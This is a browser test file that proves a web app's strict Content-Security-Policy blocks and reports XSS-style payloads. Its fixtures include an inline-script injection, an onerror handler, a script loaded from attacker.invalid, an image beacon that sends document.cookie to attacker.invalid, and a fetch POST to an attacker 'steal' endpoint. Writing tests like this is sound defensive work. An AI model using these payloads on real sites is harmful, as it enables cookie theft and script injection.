// tests/web/csp.test.mjs — the strict Content-Security-Policy of the web app
// (SECURITY.md row 11), proved in Debian's Chromium against a real
// civic-server: the page is served with the policy, and each class of
// violation an XSS would need — an injected inline script, an inline event
// handler, eval and new Function, a script, image or fetch from a foreign
// origin, an injected <style> — is blocked AND reported (a
// securitypolicyviolation event, which tests/web/harness.mjs turns into a
// console error that fails every other browser suite). The app itself still
// runs: its wasm compiles under 'wasm-unsafe-eval' and nothing else is needed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, openPhone } from './harness.mjs';

let server;
let phone;
let pageResponse;

before(async () => {
  server = await startServer();
  phone = await openPhone({ locale: 'en' });
  pageResponse = await phone.page.goto(server.base);
  // The app is up: its wasm was compiled and the catalogue fetched.
  await phone.page.getByRole('button').first().waitFor({ state: 'attached' });
});

after(async () => {
  if (phone) await phone.close();
  if (server) await server.stop();
});

function directives(csp) {
  const out = {};
  for (const part of csp.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) out[name] = values;
  }
  return out;
}

test('the page and its API answers carry the strict policy', async () => {
  const csp = pageResponse.headers()['content-security-policy'];
  assert.ok(csp, 'the page has a Content-Security-Policy header');
  const d = directives(csp);
  assert.deepEqual(d['default-src'], ["'self'"]);
  assert.deepEqual(d['script-src'], ["'self'", "'wasm-unsafe-eval'"], 'no unsafe-inline, no unsafe-eval, no foreign host');
  assert.deepEqual(d['object-src'], ["'none'"]);
  assert.deepEqual(d['base-uri'], ["'none'"]);
  assert.deepEqual(d['frame-ancestors'], ["'none'"]);
  // 'self', and the event stream's own port on the same host (the app's
  // EventSource follows the server's 307 there): nothing else.
  assert.equal(d['connect-src'][0], "'self'");
  assert.ok(d['connect-src'].length <= 2 && d['connect-src'].slice(1).every((v) => /^http:\/\/127\.0\.0\.1:\d+$/.test(v)),
    d['connect-src'].join(' '));
  // Nowhere a wildcard, a whole scheme or an unsafe keyword; 'wasm-unsafe-eval'
  // (compiling the app's own wasm) and data: images are the only allowances.
  for (const [name, values] of Object.entries(d))
    for (const v of values) {
      if (v === "'wasm-unsafe-eval'" && name === 'script-src') continue;
      if (v === 'data:' && name === 'img-src') continue;
      assert.ok(!/unsafe|^\*|^https?:$|^data:$|^blob:$/.test(v) || (v === 'blob:' && ['img-src', 'media-src', 'worker-src'].includes(name)), `${name} ${v}`);
    }
  assert.equal(pageResponse.headers()['x-content-type-options'], 'nosniff');
  const api = await fetch(`${server.api}services.json`);
  assert.equal(api.headers.get('content-security-policy'), "default-src 'none'; frame-ancestors 'none'");
  assert.equal(api.headers.get('x-frame-options'), 'DENY');
});

// window.__probe(attack): runs attack() in the page and resolves with the
// violation the browser reported for it, whether the payload ran and what
// was thrown. Defined and called through page.evaluate, whose functions
// DevTools compiles outside the page's CSP; the attack itself runs in a
// later task, as ordinary page code that meets the policy like an injected
// script would.
async function installProbe(page) {
  await page.evaluate(() => {
    window.__probe = async (attack) => {
      // Whichever comes first: the violation report, or the payload running
      // (window.__ran = true) — so a weakened policy fails fast, never hangs.
      let ran = false;
      let ranNow;
      const payloadRan = new Promise((resolve) => { ranNow = resolve; });
      Object.defineProperty(window, '__ran', {
        configurable: true,
        get: () => ran,
        set: (v) => { ran = v; if (v) ranNow(null); },
      });
      const reported = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation',
          (e) => resolve({ directive: e.effectiveDirective, disposition: e.disposition }), { once: true });
      });
      // DevTools lets code it is running right now use eval; a task queued
      // from it runs as ordinary page code, under the page's policy.
      let thrown = '';
      await new Promise((done) => setTimeout(async () => {
        try {
          await attack();
        } catch (e) {
          thrown = e.name;
        }
        done();
      }, 0));
      const violation = await Promise.race([reported, payloadRan]);
      return { violation, ran, thrown };
    };
  });
}

test('every class of violation is blocked and reported', async (t) => {
  const { page } = phone;
  await installProbe(page);
  const rows = [
    { name: 'inline script injected into the DOM', directive: 'script-src-elem',
      run: () => page.evaluate(() => window.__probe(() => {
        const s = document.createElement('script');
        s.textContent = 'window.__ran = true';
        document.body.appendChild(s);
      })) },
    { name: 'inline event handler (onerror)', directive: 'script-src-attr',
      run: () => page.evaluate(() => window.__probe(() => {
        const d = document.createElement('div');
        d.innerHTML = '<img src="/missing-on-purpose.png" onerror="window.__ran = true">';
        document.body.appendChild(d);
      })) },
    { name: 'eval', directive: 'script-src', throws: 'EvalError',
      run: () => page.evaluate(() => window.__probe(() => { window.__ran = window.eval('1 + 1') === 2; })) },
    { name: 'new Function', directive: 'script-src', throws: 'EvalError',
      run: () => page.evaluate(() => window.__probe(() => { window.__ran = new window.Function('return 1')() === 1; })) },
    { name: 'script from a foreign origin', directive: 'script-src-elem',
      run: () => page.evaluate(() => window.__probe(() => {
        const s = document.createElement('script');
        s.src = 'http://attacker.invalid/x.js';
        s.onload = () => { window.__ran = true; };
        document.head.appendChild(s);
      })) },
    { name: 'image from a foreign origin (a beacon)', directive: 'img-src',
      run: () => page.evaluate(() => window.__probe(() => {
        const i = new Image();
        i.onload = () => { window.__ran = true; };
        i.src = 'http://attacker.invalid/p.png?c=' + encodeURIComponent(document.cookie);
      })) },
    { name: 'fetch to a foreign origin (exfiltration)', directive: 'connect-src', throws: 'TypeError',
      run: () => page.evaluate(() => window.__probe(async () => {
        await fetch('http://attacker.invalid/steal', { method: 'POST', body: 'x' });
        window.__ran = true;
      })) },
    { name: 'injected <style> element', directive: 'style-src-elem',
      run: () => page.evaluate(() => window.__probe(() => {
        const s = document.createElement('style');
        s.textContent = 'body { background: rgb(255, 0, 0) }';
        document.head.appendChild(s);
        window.__ran = getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)';
      })) },
  ];
  for (const row of rows) {
    await t.test(row.name, async () => {
      const before = phone.problems().length;
      const r = await row.run();
      assert.equal(r.ran, false, 'the payload did not run');
      if (row.throws) assert.equal(r.thrown, row.throws);
      assert.ok(r.violation, 'a violation was reported');
      assert.equal(r.violation.directive, row.directive);
      assert.equal(r.violation.disposition, 'enforce');
      // The harness saw it too: any other browser suite would fail on it.
      const fresh = phone.problems().slice(before);
      assert.ok(fresh.some((p) => p.includes('CSP violation')), `harness recorded it: ${fresh.join(' | ')}`);
    });
  }
});
